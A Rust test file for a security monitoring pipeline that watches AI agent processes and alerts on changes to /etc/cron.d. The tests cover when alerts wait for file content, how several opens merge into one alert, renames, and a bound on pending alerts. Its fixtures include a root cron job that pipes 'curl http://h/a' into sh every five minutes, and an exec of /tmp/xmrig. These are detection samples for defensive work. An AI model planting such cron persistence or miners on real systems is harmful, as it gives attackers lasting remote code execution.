//! What waits, what ends the wait, and that nothing else waits with it.

use std::sync::Arc;

use crate::agent::Agent;
use crate::alert::Alert;
use crate::event::{
    AgentId, CgroupId, Event, EventKind, Exec, FileEvent, FileOp, FileText, Nanos, ProcessId, Ticks,
};
use crate::pipeline::{Input, Outputs, Pipeline, Settings, sample};

const SECOND: u64 = 1_000_000_000;
const MILLI: u64 = 1_000_000;
const CRON: &str = "/etc/cron.d/a";

fn id(pid: u32) -> ProcessId {
    ProcessId { pid, start: Ticks(u64::from(pid)) }
}

fn event(time: u64, pid: u32, kind: EventKind) -> Input {
    Input::Event(Event {
        time: Nanos(time),
        received: Nanos(time + 250_000),
        agent: AgentId(1),
        process: id(pid),
        thread: pid,
        uid: 0,
        cgroup: CgroupId(40),
        kind,
    })
}

fn exec(time: u64, pid: u32, exe: &str) -> Input {
    let exec = Exec { exe: exe.into(), argv: vec![exe.into()], ..Exec::default() };
    event(time, pid, EventKind::Exec(Arc::new(exec)))
}

fn touch(time: u64, pid: u32, op: FileOp, path: &str, from: Option<&str>) -> Input {
    let file = FileEvent { op, path: path.into(), from: from.map(Into::into), ..FileEvent::default() };
    event(time, pid, EventKind::File(file))
}

fn open(time: u64, pid: u32) -> Input {
    touch(time, pid, FileOp::Open, CRON, None)
}

fn text(time: u64, written: u64, pid: u32, before: &str, now: &str) -> Input {
    Input::FileText(Box::new(FileText {
        time: Nanos(time),
        written: Nanos(written),
        process: id(pid),
        agent: AgentId(1),
        cgroup: CgroupId(40),
        path: CRON.into(),
        dev: 1,
        inode: 1,
        before: Some(before.into()),
        text: Ok(now.into()),
        size: now.len() as u64,
        unfinished: false,
    }))
}

fn pipeline() -> Pipeline {
    let mut pipeline = Pipeline::new(sample::rules(), Settings { host: "node-1".to_owned() });
    let agent =
        Agent { id: AgentId(1), name: "coder".into(), cgroup: CgroupId(40), path: "/agents/c".into() };
    pipeline.step(Input::AgentAdded(agent));
    pipeline
}

fn run(pipeline: &mut Pipeline, inputs: impl IntoIterator<Item = Input>) -> Vec<Alert> {
    let mut out = Outputs::default();
    for input in inputs {
        pipeline.step_into(input, &mut out);
    }
    out.alerts
}

#[test]
fn the_alert_waits_for_the_content_and_shows_it() {
    let mut pipeline = pipeline();
    let alerts = run(&mut pipeline, [exec(SECOND, 2, "/bin/bash"), open(2 * SECOND, 2)]);
    assert_eq!(alerts, []);
    // It runs something else meanwhile.
    assert_eq!(run(&mut pipeline, [exec(2 * SECOND + MILLI, 2, "/bin/sleep")]), []);
    let job = "*/5 * * * * root curl http://h/a | sh";
    let read = 2 * SECOND + 5 * MILLI;
    let alerts = run(&mut pipeline, [text(read, 2 * SECOND, 2, "# jobs\n", &format!("# jobs\n{job}\n"))]);
    let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
    assert_eq!(
        alert.evidence[0].text,
        format!(
            "bash (pid 2) opened {CRON} for writing; adds: {job} (every 5 minutes, as root: curl http://h/a | sh)"
        )
    );
    assert_eq!(alert.process.as_ref().unwrap().exe, "/bin/bash");
    assert_eq!(alert.evidence[0].fields["ChangeAdded"], serde_json::json!([job]));
    assert!(alert.summary.ends_with("; every 5 minutes, as root: curl http://h/a | sh"), "{}", alert.summary);
    assert_eq!((alert.time.as_str(), alert.latency_us), ("1970-01-01T00:00:02.000000000Z", 5_000));
    assert_eq!(run(&mut pipeline, [Input::Tick(Nanos(10 * SECOND))]), []);
}

#[test]
fn without_content_it_is_judged_in_time_and_nothing_else_waits() {
    let mut pipeline = pipeline();
    let early = run(
        &mut pipeline,
        [exec(SECOND, 2, "/bin/bash"), open(2 * SECOND, 2), exec(2 * SECOND + MILLI, 3, "/tmp/xmrig")],
    );
    assert_eq!(early.len(), 1);
    assert_eq!(early[0].process.as_ref().unwrap().pid, 3);
    assert_eq!(run(&mut pipeline, [Input::Tick(Nanos(3 * SECOND))]), []);
    let alerts = run(&mut pipeline, [Input::Tick(Nanos(3 * SECOND + 200 * MILLI))]);
    let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
    assert_eq!(alert.evidence[0].text, format!("bash (pid 2) opened {CRON} for writing"));
    // What comes too late is a repeat.
    assert_eq!(run(&mut pipeline, [text(4 * SECOND, 2 * SECOND, 2, "", "@reboot root a\n")]), []);
    let update = pipeline.finish().alerts;
    assert_eq!((update[0].count, update[0].evidence.len()), (2, 2));
}

#[test]
fn several_opens_are_one_alert_with_the_whole_change() {
    let mut pipeline = pipeline();
    let inputs = [
        exec(SECOND, 2, "/bin/bash"),
        open(2 * SECOND, 2),
        open(2 * SECOND + MILLI, 2),
        text(2 * SECOND + 2 * MILLI, 2 * SECOND, 2, "", "@reboot root a\n"),
    ];
    assert_eq!(run(&mut pipeline, inputs), []);
    let second = text(
        2 * SECOND + 9 * MILLI,
        2 * SECOND + MILLI,
        2,
        "@reboot root a\n",
        "@reboot root a\n@daily root b\n",
    );
    let alerts = run(&mut pipeline, [second]);
    let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
    assert_eq!(
        alert.evidence[0].fields["ChangeAdded"],
        serde_json::json!(["@reboot root a", "@daily root b"])
    );
    assert_eq!(pipeline.finish().alerts, []);
}

#[test]
fn a_file_written_aside_and_renamed_is_one_alert() {
    let mut pipeline = pipeline();
    let aside = "/etc/cron.d/sedAb12Cd";
    let inputs = [
        exec(SECOND, 2, "/bin/sed"),
        touch(2 * SECOND, 2, FileOp::Open, aside, None),
        touch(2 * SECOND + MILLI, 2, FileOp::Rename, CRON, Some(aside)),
        text(2 * SECOND + 3 * MILLI, 2 * SECOND + MILLI, 2, "@daily root a\n", ""),
    ];
    let alerts = run(&mut pipeline, inputs);
    let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
    assert!(alert.evidence[0].text.contains("renamed"), "{}", alert.evidence[0].text);
    assert_eq!(alert.evidence[0].fields["ChangeRemoved"], serde_json::json!(["@daily root a"]));
    assert_eq!(pipeline.finish().alerts, []);
}

#[test]
fn what_waits_at_the_end_is_judged_and_a_crowd_is_bounded() {
    let mut pipeline = pipeline();
    let crowd = (0..3_000_u32)
        .map(|n| touch(SECOND + u64::from(n), 10 + n, FileOp::Open, &format!("/etc/cron.d/{n}"), None));
    let early = run(&mut pipeline, crowd).len();
    assert_eq!(early, 3_000 - 1_024);
    assert_eq!(pipeline.finish().alerts.len(), 1_024);
}
